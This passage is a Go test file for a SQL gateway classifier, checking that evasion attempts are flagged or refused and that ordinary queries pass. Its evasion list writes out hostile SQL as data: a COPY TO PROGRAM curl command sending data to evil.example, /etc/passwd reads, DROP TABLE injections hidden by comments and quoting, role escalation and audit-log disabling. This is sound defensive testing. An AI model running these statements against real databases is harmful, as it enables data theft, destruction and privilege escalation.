package classify

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	pg_query "github.com/pganalyze/pg_query_go/v6"
)

// outcome is what a test expects of a verdict. Reason, when set, must be
// one of the verdict's reasons.
type outcome struct {
	write, risky, refuse bool
	reason               string
}

var (
	read  = outcome{}
	write = outcome{write: true}
)

func riskyBecause(reason string) outcome { return outcome{risky: true, reason: reason} }
func refusedBecause(reason string) outcome {
	return outcome{refuse: true, reason: reason}
}

type classifyCase struct {
	sql  string
	want outcome
}

// evasions are attempts to get something dangerous past the gateway. Each
// must come out risky or refused; write is checked too where it matters.
var evasions = []classifyCase{
	// Comments, case and statement separators.
	{"/* x */ DROP TABLE t", riskyBecause("DROP TABLE")},
	{"drop table T", riskyBecause("DROP TABLE")},
	{"DrOp TaBlE t", riskyBecause("DROP TABLE")},
	{"DROP/**/TABLE t", riskyBecause("DROP TABLE")},
	{"DR/**/OP TABLE t", refusedBecause("does not parse")},
	{"SELECT 1; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"SELECT 1;DROP TABLE t --", riskyBecause("DROP TABLE")},
	{"SELECT 1 -- comment\n; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"SELECT 1 /* ; */ ; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"SELECT '--'; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"SELECT '/*'; DROP TABLE t; SELECT '*/'", riskyBecause("DROP TABLE")},
	{"/* nested /* comment */ still comment */ DROP TABLE t", riskyBecause("DROP TABLE")},
	{"SELECT 1;;; ;DROP TABLE t", riskyBecause("DROP TABLE")},
	{"DROP TABLE IF EXISTS t CASCADE", riskyBecause("DROP TABLE")},
	{"DROP SCHEMA public CASCADE", riskyBecause("DROP SCHEMA")},
	{"DROP DATABASE prod", riskyBecause("DROP DATABASE")},
	{"DROP INDEX CONCURRENTLY i", riskyBecause("DROP INDEX")},
	{"DROP VIEW v", riskyBecause("DROP VIEW")},
	{"DROP FUNCTION f()", riskyBecause("DROP FUNCTION")},
	{"DROP OWNED BY x", riskyBecause("DROP OWNED")},
	{"\"DROP\" TABLE t", refusedBecause("does not parse")},

	// String tricks: quotes, escapes, Unicode escapes, dollar quoting.
	{"SELECT E'\\''; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"SELECT E'\\\\'; DROP TABLE t; SELECT ''", riskyBecause("DROP TABLE")},
	{"SELECT 'a\\'; DROP TABLE t; --'", riskyBecause("DROP TABLE")},
	{"SELECT 'it''s'; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"SELECT U&'\\0027'; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"DROP TABLE U&\"\\0074\"", riskyBecause("DROP TABLE")},
	{"SELECT U&\"pg_read_\\0066ile\"('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"SELECT \"pg_read_file\"('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"SELECT $$'$$; DROP TABLE t; SELECT $$'$$", riskyBecause("DROP TABLE")},
	{"SELECT $x$ $$ $x$; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"SELECT 'a'\n'b'; DROP TABLE t", riskyBecause("DROP TABLE")},
	{"DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", riskyBecause("DO")},
	{"DO $x$ BEGIN PERFORM 1; END $x$", riskyBecause("DO")},
	{"DO LANGUAGE plpgsql 'BEGIN NULL; END'", riskyBecause("DO")},
	{"do $$ begin end $$", riskyBecause("DO")},

	// Data-modifying CTEs, including inside otherwise harmless statements.
	{"WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x", riskyBecause("data-modifying WITH")},
	{"WITH x AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT 1", riskyBecause("data-modifying WITH")},
	{"WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1", riskyBecause("data-modifying WITH")},
	{"SELECT * FROM (WITH x AS (DELETE FROM t WHERE id = 1 RETURNING 1) SELECT * FROM x) s", riskyBecause("data-modifying WITH")},
	{"WITH a AS (SELECT 1), b AS (DELETE FROM t RETURNING 1) SELECT 1", riskyBecause("DELETE without WHERE")},

	// Prepared statements.
	{"PREPARE p AS DELETE FROM t; EXECUTE p", riskyBecause("DELETE without WHERE")},
	{"PREPARE p AS SELECT pg_read_file('/etc/passwd'); EXECUTE p", riskyBecause("calls pg_read_file")},
	{"EXECUTE p", refusedBecause("EXECUTE of unknown prepared statement p")},
	{"PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p", refusedBecause("EXECUTE of unknown prepared statement p")},
	{"PREPARE p AS SELECT 1; DISCARD ALL; EXECUTE p", refusedBecause("EXECUTE of unknown prepared statement p")},
	{"PREPARE p AS SELECT 1; EXECUTE p(pg_read_file('x'))", riskyBecause("calls pg_read_file")},
	{"PREPARE p AS DELETE FROM t; CREATE TABLE x AS EXECUTE p", riskyBecause("DELETE without WHERE")},
	{"PREPARE p AS DELETE FROM t; EXPLAIN ANALYZE EXECUTE p", riskyBecause("DELETE without WHERE")},

	// Dangerous functions, wherever they sit in the tree.
	{"SELECT pg_read_file('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"SELECT pg_catalog.pg_read_file('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"SELECT pg_read_binary_file('/etc/passwd')", riskyBecause("calls pg_read_binary_file")},
	{"SELECT * FROM pg_ls_dir('.')", riskyBecause("calls pg_ls_dir")},
	{"SELECT pg_stat_file('postgresql.conf')", riskyBecause("calls pg_stat_file")},
	{"SELECT lo_import('/etc/passwd')", riskyBecause("calls lo_import")},
	{"SELECT lo_export(1, '/tmp/x')", riskyBecause("calls lo_export")},
	{"SELECT lo_unlink(1)", riskyBecause("calls lo_unlink")},
	{"SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", riskyBecause("calls dblink")},
	{"SELECT dblink_exec('host=x', 'DROP TABLE t')", riskyBecause("calls dblink_exec")},
	{"SELECT public.dblink_connect('x')", riskyBecause("calls dblink_connect")},
	{"SELECT pg_terminate_backend(42)", riskyBecause("calls pg_terminate_backend")},
	{"SELECT pg_cancel_backend(pid) FROM pg_stat_activity", riskyBecause("calls pg_cancel_backend")},
	{"SELECT pg_reload_conf()", riskyBecause("calls pg_reload_conf")},
	{"SELECT pg_rotate_logfile()", riskyBecause("calls pg_rotate_logfile")},
	{"SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')", riskyBecause("calls query_to_xml")},
	{"SELECT ts_stat('SELECT pg_read_file(''x'')::tsvector')", riskyBecause("calls ts_stat")},
	{"SELECT ts_rewrite('a'::tsquery, 'SELECT 1')", riskyBecause("calls ts_rewrite with a query")},
	{"SELECT cron.schedule('* * * * *', 'DROP TABLE t')", riskyBecause("calls cron.schedule")},
	{"SELECT * FROM t WHERE a IN (SELECT b FROM u WHERE c = (SELECT max(d) FROM v WHERE e = pg_read_file('x')))", riskyBecause("calls pg_read_file")},
	{"INSERT INTO t VALUES (1, pg_read_file('/etc/passwd'))", riskyBecause("calls pg_read_file")},
	{"SELECT * FROM t ORDER BY pg_read_file('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"SELECT * FROM t, LATERAL (SELECT pg_read_file('/etc/passwd')) x", riskyBecause("calls pg_read_file")},
	{"SELECT * FROM t GROUP BY 1 HAVING count(pg_ls_dir('.')) > 0", riskyBecause("calls pg_ls_dir")},
	{"SELECT CASE WHEN true THEN pg_read_file('x') END", riskyBecause("calls pg_read_file")},
	{"SELECT sum(a) FILTER (WHERE pg_read_file('x') <> '') FROM t", riskyBecause("calls pg_read_file")},
	{"SELECT * FROM ROWS FROM (pg_ls_dir('.')) AS x", riskyBecause("calls pg_ls_dir")},
	{"VALUES (pg_read_file('/etc/passwd'))", riskyBecause("calls pg_read_file")},
	{"COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", riskyBecause("calls pg_read_file")},
	{"DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", riskyBecause("calls pg_read_file")},
	{"CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", riskyBecause("calls pg_read_file")},
	{"SELECT (SELECT (SELECT (SELECT (SELECT pg_read_file('x')))))", riskyBecause("calls pg_read_file")},
	{"UPDATE t SET a = pg_read_file('x') WHERE id = 1", riskyBecause("calls pg_read_file")},
	{"SELECT 1 WHERE EXISTS (SELECT pg_sleep(0), pg_read_file('x'))", riskyBecause("calls pg_read_file")},

	// Lexing: settings that change how the server splits input are refused.
	{"SELECT set_config('standard_conforming_strings', 'off', false)", refusedBecause("turns off standard_conforming_strings")},
	{"SELECT pg_catalog.set_config('Standard_Conforming_Strings', 'off', false)", refusedBecause("turns off standard_conforming_strings")},
	{"SELECT set_config('client_encoding', 'SJIS', false)", refusedBecause("changes client_encoding")},
	{"SELECT set_config(name, 'off', false) FROM pg_settings", refusedBecause("set_config of a setting that is not a constant")},
	{"SELECT set_config($1, $2, false)", refusedBecause("set_config of a setting that is not a constant")},
	{"SET standard_conforming_strings = off", refusedBecause("turns off standard_conforming_strings")},
	{"SET standard_conforming_strings TO false", refusedBecause("turns off standard_conforming_strings")},
	{"SET LOCAL standard_conforming_strings = 0", refusedBecause("turns off standard_conforming_strings")},
	{"SET standard_conforming_strings TO DEFAULT", refusedBecause("turns off standard_conforming_strings")},
	{"RESET standard_conforming_strings", refusedBecause("turns off standard_conforming_strings")},
	{"SET client_encoding = 'LATIN1'", refusedBecause("changes client_encoding")},
	{"SET client_encoding TO 'GBK'", refusedBecause("changes client_encoding")},
	{"SET NAMES 'SJIS'", refusedBecause("changes client_encoding")},
	{"RESET client_encoding", refusedBecause("changes client_encoding")},
	{"UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", refusedBecause("UPDATE pg_settings changes server settings")},
	{"UPDATE pg_catalog.pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'", refusedBecause("UPDATE pg_settings changes server settings")},

	// COPY with the server's files or programs.
	{"COPY t TO PROGRAM 'curl -d @- https://evil.example'", riskyBecause("COPY with PROGRAM runs a command on the server")},
	{"COPY t FROM PROGRAM 'id'", riskyBecause("COPY with PROGRAM runs a command on the server")},
	{"COPY t FROM '/etc/passwd'", riskyBecause("COPY with a server file")},
	{"COPY t TO '/tmp/dump'", riskyBecause("COPY with a server file")},
	{"COPY (SELECT 1) TO '/tmp/x'", riskyBecause("COPY with a server file")},

	// UPDATE and DELETE of every row.
	{"DELETE FROM t", riskyBecause("DELETE without WHERE")},
	{"DELETE FROM ONLY t", riskyBecause("DELETE without WHERE")},
	{"DELETE FROM t USING u", riskyBecause("DELETE without WHERE")},
	{"UPDATE t SET a = 1", riskyBecause("UPDATE without WHERE")},
	{"UPDATE t SET a = 1 FROM u", riskyBecause("UPDATE without WHERE")},
	{"DELETE FROM t WHERE 1=1", riskyBecause("DELETE whose WHERE matches every row")},
	{"UPDATE t SET a=1 WHERE true", riskyBecause("UPDATE whose WHERE matches every row")},
	{"DELETE FROM t WHERE 'a'='a'", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE NOT false", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE 1 IS NOT NULL", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE id = 5 OR 1 = 1", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE id = id", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE $1", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE id = 1 OR $1", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE now() > '2000-01-01'", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE EXISTS (SELECT 1)", riskyBecause("DELETE whose WHERE matches every row")},
	{"DELETE FROM t WHERE NULL = NULL", riskyBecause("DELETE whose WHERE matches every row")},
	{"MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", riskyBecause("MERGE whose join matches every row")},
	{"MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", riskyBecause("MERGE WHEN NOT MATCHED BY SOURCE changes every unmatched row")},
	{"TRUNCATE t", riskyBecause("TRUNCATE TABLE")},
	{"TRUNCATE TABLE a, b RESTART IDENTITY", riskyBecause("TRUNCATE TABLE")},

	// Schema, roles, privileges, server.
	{"ALTER TABLE t ADD COLUMN c int", riskyBecause("ALTER TABLE")},
	{"ALTER TABLE t RENAME TO u", riskyBecause("ALTER TABLE")},
	{"ALTER SYSTEM SET listen_addresses = '*'", riskyBecause("ALTER SYSTEM")},
	{"ALTER ROLE x SUPERUSER", riskyBecause("ALTER ROLE")},
	{"ALTER USER x PASSWORD 'y'", riskyBecause("ALTER ROLE")},
	{"ALTER DATABASE d SET default_transaction_read_only = off", riskyBecause("ALTER DATABASE")},
	{"CREATE ROLE x SUPERUSER", riskyBecause("CREATE ROLE")},
	{"CREATE USER x", riskyBecause("CREATE USER")},
	{"DROP ROLE x", riskyBecause("DROP ROLE")},
	{"GRANT ALL ON t TO x", riskyBecause("GRANT")},
	{"GRANT postgres TO x", riskyBecause("GRANT ROLE")},
	{"REVOKE SELECT ON t FROM x", riskyBecause("REVOKE")},
	{"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", riskyBecause("CREATE FUNCTION")},
	{"CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'", riskyBecause("SECURITY DEFINER")},
	{"ALTER FUNCTION f() SECURITY DEFINER", riskyBecause("SECURITY DEFINER")},
	{"CREATE PROCEDURE p() LANGUAGE sql AS $$DELETE FROM t$$", riskyBecause("CREATE PROCEDURE")},
	{"CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END", riskyBecause("CREATE FUNCTION")},
	{"CALL p()", riskyBecause("CALL")},
	{"LOAD 'evil'", riskyBecause("LOAD")},
	{"CREATE EXTENSION dblink", riskyBecause("CREATE EXTENSION")},
	{"CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", riskyBecause("CREATE TRIGGER")},
	{"CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", riskyBecause("CREATE RULE")},
	{"CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)", riskyBecause("CREATE OPERATOR")},
	{"CREATE CAST (text AS int) WITH FUNCTION f(text) AS IMPLICIT", riskyBecause("CREATE CAST")},
	{"CREATE SERVER s FOREIGN DATA WRAPPER file_fdw", riskyBecause("CREATE SERVER")},
	{"CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (filename '/etc/passwd')", riskyBecause("CREATE FOREIGN TABLE")},
	{"CREATE TABLESPACE ts LOCATION '/tmp'", riskyBecause("CREATE TABLESPACE")},
	{"CREATE POLICY p ON t USING (true)", riskyBecause("CREATE POLICY")},
	{"SECURITY LABEL ON TABLE t IS 'x'", riskyBecause("SECURITY LABEL")},
	{"REASSIGN OWNED BY a TO b", riskyBecause("REASSIGN OWNED")},
	{"PREPARE TRANSACTION 'x'", riskyBecause("PREPARE TRANSACTION")},
	{"COMMIT PREPARED 'x'", riskyBecause("COMMIT PREPARED")},

	// Who the session is, and read-only.
	{"SET ROLE postgres", riskyBecause("changes role")},
	{"SET LOCAL ROLE postgres", riskyBecause("changes role")},
	{"RESET ROLE", riskyBecause("changes role")},
	{"SET ROLE NONE", riskyBecause("changes role")},
	{"SET SESSION AUTHORIZATION x", riskyBecause("changes session authorization")},
	{"SET SESSION AUTHORIZATION DEFAULT", riskyBecause("changes session authorization")},
	{"SELECT set_config('role', 'postgres', false)", riskyBecause("changes role")},
	{"SET transaction_read_only = off", riskyBecause(turnsOffReadOnly)},
	{"SET default_transaction_read_only = false", riskyBecause(turnsOffReadOnly)},
	{"SET default_transaction_read_only TO DEFAULT", riskyBecause(turnsOffReadOnly)},
	{"RESET default_transaction_read_only", riskyBecause(turnsOffReadOnly)},
	{"SELECT set_config('default_transaction_read_only', 'off', false)", riskyBecause(turnsOffReadOnly)},
	{"SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", riskyBecause(turnsOffReadOnly)},
	{"SET TRANSACTION READ WRITE", riskyBecause(turnsOffReadOnly)},
	{"BEGIN READ WRITE", riskyBecause(turnsOffReadOnly)},
	{"START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", riskyBecause(turnsOffReadOnly)},
	{"RESET ALL", riskyBecause("RESET ALL resets role and read-only settings")},
	{"DISCARD ALL", riskyBecause("DISCARD ALL resets role and read-only settings")},
	{"SET session_replication_role = replica", riskyBecause("sets session_replication_role")},
	{"SET log_statement = 'none'", riskyBecause("sets log_statement")},
	{"SET pgaudit.log = 'none'", riskyBecause("sets pgaudit.log")},

	// Too much, too deep, not SQL.
	{strings.Repeat("(", 100000), refusedBecause("nests deeper than 100")},
	{"SELECT " + strings.Repeat("(", 100000) + "1" + strings.Repeat(")", 100000), refusedBecause("nests deeper than 100")},
	{"SELECT 1" + strings.Repeat("+1", 100000), refusedBecause("nests deeper than 100")},
	{"SELECT a" + strings.Repeat("::int", 100000), refusedBecause("nests deeper than 100")},
	{"SELECT 1" + strings.Repeat(" UNION SELECT 1, 2 WHERE a AND b", 20000), refusedBecause("nests deeper than 100")},
	{"SELECT 1 FROM a" + strings.Repeat(" JOIN a ON x AND y", 50000), refusedBecause("nests deeper than 100")},
	{"SELECT " + strings.Repeat("CASE WHEN a AND b THEN ", 20000) + "1" + strings.Repeat(" END", 20000), refusedBecause("nests deeper than 100")},
	{"SELECT " + strings.Repeat("NOT ", 100000) + "true", refusedBecause("nests deeper than 100")},
	{"SELECT " + strings.Repeat("ARRAY[", 100000), refusedBecause("nests deeper than 100")},
	{"SELECT 1 " + strings.Repeat("-", 1<<20), refusedBecause("longer than 1048576 bytes")},
	{"not sql at all", refusedBecause("does not parse")},
	{"SELEC 1", refusedBecause("does not parse")},
	{"SELECT 'unterminated", refusedBecause("does not parse")},
	{"SELECT $$unterminated", refusedBecause("does not parse")},
	{"SELECT 1 /* unterminated", refusedBecause("does not parse")},
	{"\x00", refusedBecause("contains a NUL byte")},
	{"SELECT 1\x00; DROP TABLE t", refusedBecause("contains a NUL byte")},
	{"SELECT '\xff\xfe'", refusedBecause("is not valid UTF-8")},
}

// ordinary statements must pass: not risky, not refused, and the right Write.
var ordinary = []classifyCase{
	{"SELECT 1", read},
	{"SELECT * FROM t", read},
	{"SELECT a, b FROM t WHERE id = 1", read},
	{"select * from users where email = 'a@b.c' order by id limit 10", read},
	{"SELECT count(*) FROM t JOIN u ON t.id = u.tid GROUP BY t.a HAVING count(*) > 1", read},
	{"SELECT 1 UNION ALL SELECT 2", read},
	{"WITH x AS (SELECT 1) SELECT * FROM x", read},
	{"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", read},
	{"SELECT abalance FROM pgbench_accounts WHERE aid = 48213;", read},
	{"SELECT current_setting('search_path'), pg_backend_pid(), now(), version()", read},
	{"SELECT currval('s')", read},
	{"SELECT 'DROP TABLE t'", read},
	{"SELECT $$DROP TABLE t$$", read},
	{"SELECT 1 -- DROP TABLE t", read},
	{"SELECT /* DROP TABLE t */ 1", read},
	{"SELECT E'\\'DROP TABLE t'", read},
	{"SELECT set_config('application_name', 'psql', false)", read},
	{"SELECT set_config('app.user_id', $1, true)", read},
	{"SELECT set_config('standard_conforming_strings', 'on', false)", read},
	{"INSERT INTO t (a, b) VALUES (1, 'x')", write},
	{"INSERT INTO t SELECT * FROM u", write},
	{"INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b", write},
	{"UPDATE t SET a=1 WHERE id=2", write},
	{"UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u)", write},
	{"UPDATE t SET a = 1 FROM u WHERE t.id = u.id", write},
	{"UPDATE t SET a = 1 WHERE CURRENT OF c", write},
	{"DELETE FROM t WHERE id = $1", write},
	{"DELETE FROM t WHERE id = 1 AND true", write},
	{"DELETE FROM t WHERE 1 = 2", write},
	{"DELETE FROM t WHERE false", write},
	{"DELETE FROM t WHERE NULL", write},
	{"DELETE FROM t WHERE 1 <> 1 OR id = 4", write},
	{"DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)", write},
	{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", write},
	{"UPDATE pgbench_accounts SET abalance = abalance + -1234 WHERE aid = 5;", write},
	{"UPDATE pgbench_tellers SET tbalance = tbalance + -1234 WHERE tid = 3;", write},
	{"UPDATE pgbench_branches SET bbalance = bbalance + -1234 WHERE bid = 1;", write},
	{"INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (3, 1, 5, -1234, CURRENT_TIMESTAMP);", write},
	{"BEGIN; SELECT 1; COMMIT", read},
	{"BEGIN", read},
	{"BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", read},
	{"START TRANSACTION READ ONLY", read},
	{"SET TRANSACTION READ ONLY", read},
	{"COMMIT", read},
	{"END", read},
	{"ROLLBACK", read},
	{"SAVEPOINT s; ROLLBACK TO SAVEPOINT s; RELEASE s", read},
	{"SHOW search_path", read},
	{"SHOW ALL", read},
	{"SET application_name = 'x'", read},
	{"SET search_path TO public, extra", read},
	{"SET statement_timeout = '5s'", read},
	{"SET LOCAL work_mem = '64MB'", read},
	{"SET TIME ZONE 'UTC'", read},
	{"SET client_encoding = 'UTF8'", read},
	{"SET NAMES 'utf-8'", read},
	{"SET standard_conforming_strings = on", read},
	{"SET escape_string_warning = off", read},
	{"SET backslash_quote = on", read},
	{"SET default_transaction_read_only = on", read},
	{"SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", read},
	{"RESET statement_timeout", read},
	{"EXPLAIN SELECT * FROM t", read},
	{"EXPLAIN DELETE FROM t", read},
	{"EXPLAIN (ANALYZE false) DELETE FROM t", read},
	{"EXPLAIN (COSTS off, FORMAT json) SELECT 1", read},
	{"EXPLAIN ANALYZE SELECT * FROM t", read},
	{"DISCARD PLANS", read},
	{"DISCARD TEMP", read},
	{"DEALLOCATE ALL", read},
	{"LISTEN ch; UNLISTEN ch; NOTIFY ch, 'x'", read},
	{"DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c; MOVE c; CLOSE c", read},
	{"PREPARE q AS SELECT * FROM t WHERE id = $1; EXECUTE q(1); DEALLOCATE q", read},
	{"SET CONSTRAINTS ALL DEFERRED", read},
	{"VALUES (1), (2)", read},
	{"TABLE t", read},
	{"", read},
	{";", read},
	{"-- just a comment", read},
	{"SELECT * FROM t FOR UPDATE", write},
	{"SELECT * FROM t FOR SHARE SKIP LOCKED", write},
	{"SELECT * FROM (SELECT * FROM t FOR UPDATE) s", write},
	{"SELECT nextval('s')", write},
	{"SELECT setval('s', 10)", write},
	{"SELECT pg_advisory_lock(1)", write},
	{"SELECT * INTO t2 FROM t", write},
	{"CREATE TABLE t (a int)", write},
	{"CREATE TEMP TABLE t AS SELECT 1", write},
	{"CREATE INDEX ON t (a)", write},
	{"CREATE VIEW v AS SELECT 1", write},
	{"CREATE SCHEMA s", write},
	{"CREATE SEQUENCE s", write},
	{"CREATE MATERIALIZED VIEW m AS SELECT 1", write},
	{"COMMENT ON TABLE t IS 'x'", write},
	{"COPY t FROM STDIN", write},
	{"COPY t (a, b) FROM STDIN WITH (FORMAT csv)", write},
	{"COPY t TO STDOUT", read},
	{"COPY (SELECT * FROM t) TO STDOUT WITH CSV HEADER", read},
	{"LOCK t IN ACCESS EXCLUSIVE MODE", write},
	{"VACUUM t", write},
	{"VACUUM (VERBOSE, ANALYZE) t", write},
	{"ANALYZE t", write},
	{"CLUSTER t USING i", write},
	{"REINDEX TABLE t", write},
	{"REFRESH MATERIALIZED VIEW m", write},
	{"CHECKPOINT", write},
	{"EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE id = 1", write},
	{"PREPARE q AS UPDATE t SET a = 1 WHERE id = $1; EXECUTE q(1)", write},
}

func TestEvasionsAreCaught(t *testing.T) {
	t.Parallel()
	runCases(t, evasions)
}

func TestOrdinaryStatementsPass(t *testing.T) {
	t.Parallel()
	runCases(t, ordinary)
}

func runCases(t *testing.T, cases []classifyCase) {
	c := New(Options{})
	for _, tc := range cases {
		name := tc.sql
		if len(name) > 80 {
			name = name[:80]
		}
		t.Run(name, func(t *testing.T) {
			// Twice: the second verdict comes from the cache.
			for range 2 {
				checkVerdict(t, tc.sql, c.Classify(tc.sql), tc.want)
			}
		})
	}
}

func checkVerdict(t *testing.T, sql string, got Verdict, want outcome) {
	t.Helper()
	if len(sql) > 200 {
		sql = sql[:200] + "..."
	}
	if got.Refuse != want.refuse {
		t.Errorf("%q: Refuse = %v, want %v (reasons %q)", sql, got.Refuse, want.refuse, got.Reasons)
	}
	if !want.refuse && got.Risky != want.risky {
		t.Errorf("%q: Risky = %v, want %v (reasons %q)", sql, got.Risky, want.risky, got.Reasons)
	}
	if !want.refuse && !want.risky && got.Write != want.write {
		t.Errorf("%q: Write = %v, want %v", sql, got.Write, want.write)
	}
	if want.reason != "" && !slices.Contains(got.Reasons, want.reason) {
		t.Errorf("%q: Reasons = %q, want %q among them", sql, got.Reasons, want.reason)
	}
	if !want.risky && !want.refuse && len(got.Reasons) > 0 {
		t.Errorf("%q: Reasons = %q, want none", sql, got.Reasons)
	}
}

func TestWriteOfRiskyStatements(t *testing.T) {
	t.Parallel()
	c := New(Options{})
	for sql, wantWrite := range map[string]bool{
		"DROP TABLE t":                          true,
		"DELETE FROM t":                         true,
		"SELECT pg_read_file('x')":              false,
		"SELECT pg_terminate_backend(1)":        true,
		"COPY t TO '/tmp/x'":                    true,
		"SET ROLE postgres":                     false,
		"WITH x AS (DELETE FROM t) SELECT 1":    true,
		"PREPARE p AS DELETE FROM t; EXECUTE p": true,
	} {
		if got := c.Classify(sql); got.Write != wantWrite {
			t.Errorf("%q: Write = %v, want %v", sql, got.Write, wantWrite)
		}
	}
}

func TestKinds(t *testing.T) {
	t.Parallel()
	c := New(Options{})
	for sql, want := range map[string][]string{
		"SELECT 1":                           {"SELECT"},
		"BEGIN; SELECT 1; COMMIT":            {"BEGIN", "SELECT", "COMMIT"},
		"INSERT INTO t VALUES (1)":           {"INSERT"},
		"SELECT 1 INTO t":                    {"SELECT INTO"},
		"CREATE TABLE t AS SELECT 1":         {"CREATE TABLE AS"},
		"DROP MATERIALIZED VIEW m":           {"DROP MATERIALIZED VIEW"},
		"ALTER TABLE t ADD c int":            {"ALTER TABLE"},
		"ALTER INDEX i RENAME TO j":          {"ALTER INDEX"},
		"CREATE FOREIGN TABLE f () SERVER s": {"CREATE FOREIGN TABLE"},
		"SET a = 1; RESET a":                 {"SET", "RESET"},
		"VACUUM; ANALYZE":                    {"VACUUM", "ANALYZE"},
		"TRUNCATE t":                         {"TRUNCATE TABLE"},
		"CREATE USER u":                      {"CREATE USER"},
		"EXPLAIN ANALYZE DELETE FROM t":      {"EXPLAIN"},
		"DISCARD ALL":                        {"DISCARD ALL"},
		"DEALLOCATE ALL":                     {"DEALLOCATE ALL"},
		"not sql":                            nil,
	} {
		if got := c.Classify(sql).Kinds; !slices.Equal(got, want) {
			t.Errorf("%q: Kinds = %q, want %q", sql, got, want)
		}
	}
}

// Renames lists the statement names a text prepares or deallocates in SQL:
// the gateway's knowledge of protocol statements of those names is stale
// once it runs.
func TestRenames(t *testing.T) {
	t.Parallel()
	c := New(Options{})
	for sql, want := range map[string][]string{
		"PREPARE a AS SELECT 1; DEALLOCATE b": {"a", "b"},
		"deallocate prepare \"Mixed\"":        {"Mixed"},
		"DEALLOCATE ALL":                      nil,
		"EXECUTE a":                           nil,
		"SELECT 'PREPARE a AS SELECT 1'":      nil,
	} {
		if got := c.Classify(sql).Renames; !slices.Equal(got, want) {
			t.Errorf("%q: Renames = %q, want %q", sql, got, want)
		}
	}
}

// Portals lists, in order, the statements that drop the server's portals
// or set the point a rollback drops them back to: the gateway's knowledge
// of portals of those names is stale once they run.
func TestPortalOps(t *testing.T) {
	t.Parallel()
	c := New(Options{})
	end := PortalOp{Kind: EndTransaction}
	for sql, want := range map[string][]PortalOp{
		"COMMIT":                           {end},
		"commit and chain":                 {end},
		"END; BEGIN":                       {end},
		"ROLLBACK AND CHAIN":               {end},
		"abort":                            {end},
		"PREPARE TRANSACTION 'tx1'; BEGIN": {end},
		"SAVEPOINT a; RELEASE a; ROLLBACK TO SAVEPOINT \"B\"": {{Savepoint, "a"}, {Release, "a"}, {RollbackTo, "B"}},
		"rollback to b":         {{RollbackTo, "b"}},
		"CLOSE c; CLOSE ALL":    {{CloseCursor, "c"}, {CloseCursor, ""}},
		"BEGIN; SELECT 1":       nil,
		"COMMIT PREPARED 'tx1'": nil,
		"SELECT 'COMMIT'":       nil,
	} {
		if got := c.Classify(sql).Portals; !slices.Equal(got, want) {
			t.Errorf("%q: Portals = %v, want %v", sql, got, want)
		}
	}
	if got := c.Classify("ROLLBACK TO a").Kinds; !slices.Equal(got, []string{"ROLLBACK TO SAVEPOINT"}) {
		t.Errorf("ROLLBACK TO's kind is %q: a full ROLLBACK must be told from it", got)
	}
}

// CopyIns counts the statements that read COPY data from the client: the
